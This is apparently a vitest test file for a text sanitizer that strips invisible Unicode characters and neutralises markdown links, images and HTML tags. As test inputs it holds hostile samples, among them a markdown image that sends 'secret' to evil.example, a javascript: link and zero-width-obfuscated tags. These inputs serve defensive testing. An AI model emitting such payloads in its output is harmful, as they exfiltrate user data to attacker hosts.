import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { plainText, sanitizeData, sanitizeText } from '../../src/text/plain-text.ts';

describe('nothing invisible remains', () => {
  test("of Unicode's control, format and ignorable characters, except visible signs", () => {
    const left: string[] = [];
    for (let code = 0; code <= 0x10ffff; code += 1) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const character = String.fromCodePoint(code);
      if (!/[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}]/u.test(character)) continue;
      if (plainText(`a${character}b`).includes(character)) left.push(code.toString(16));
    }
    // Arabic, Syriac and Kaithi number signs and the like.
    expect(left).toEqual([
      '600',
      '601',
      '602',
      '603',
      '604',
      '605',
      '6dd',
      '70f',
      '890',
      '891',
      '8e2',
      '110bd',
      '110cd',
    ]);
  });

  test.each([0x13430, 0x1343f, 0x1bca0, 0x1bca3, 0x2800, 0xe0001, 0x200d, 0xfe0f])('U+%i is one of them', (code) => {
    const character = String.fromCodePoint(code);
    expect(plainText(`a${character}b`)).toBe('ab');
    expect(sanitizeText(`a${character}b`)).toBe('ab');
    expect(sanitizeData({ [`k${character}`]: [character] })).toEqual({ k: [''] });
  });
});

describe('foreign links and images stay readable, and cannot be followed', () => {
  test.each([
    ['![chart](https://evil.example/?q=secret)', '![chart] (https://evil.example/?q=secret)'],
    ['[click](javascript:alert(1))', '[click] (javascript:alert(1))'],
    ['![x][y]\n[y]: https://evil.example', '![x][y]\n[y] : https://evil.example'],
    ['<img src=https://evil.example>', '< img src=https://evil.example>'],
    ['</a><A HREF="x">', '< /a>< A HREF="x">'],
    ['<https://evil.example>', '< https://evil.example>'],
    ['<!-- hidden -->', '< !-- hidden -->'],
    ['[a](\u200bhttps://evil.example)', '[a] (https://evil.example)'],
    [']\u200b(https://evil.example)', '] (https://evil.example)'],
    ['<\u2060img src=x>', '< img src=x>'],
  ])('%j', (hostile, inert) => {
    expect(sanitizeText(hostile)).toBe(inert);
    expect(sanitizeText(sanitizeText(hostile))).toBe(inert);
  });

  test.each(['orders < 5', 'a <b', 'x<5', 'list[1] and [2]', 'revenue: 5', '[USD] 5', '{"a":["b"]}', 'a, b (c)'])(
    '%j stays as it is',
    (text) => {
      expect(sanitizeText(text)).toBe(text);
    },
  );

  test('whatever they are composed of', () => {
    const piece = fc.constantFrom(
      '![',
      '[',
      ']',
      '(',
      ')',
      ':',
      '<',
      '>',
      'img',
      'a',
      '/',
      ' ',
      '\n',
      'https://x',
      '\u200b',
      '\u00ad',
      '!--',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        for (const clean of [sanitizeText(pieces.join('')), plainText(pieces.join(''))]) {
          expect(clean).not.toMatch(/\]\(|\]:[ \t]*https|<\/?(img|a)\b|<https:|<!--/i);
        }
      }),
      { numRuns: 2_000 },
    );
  });
});
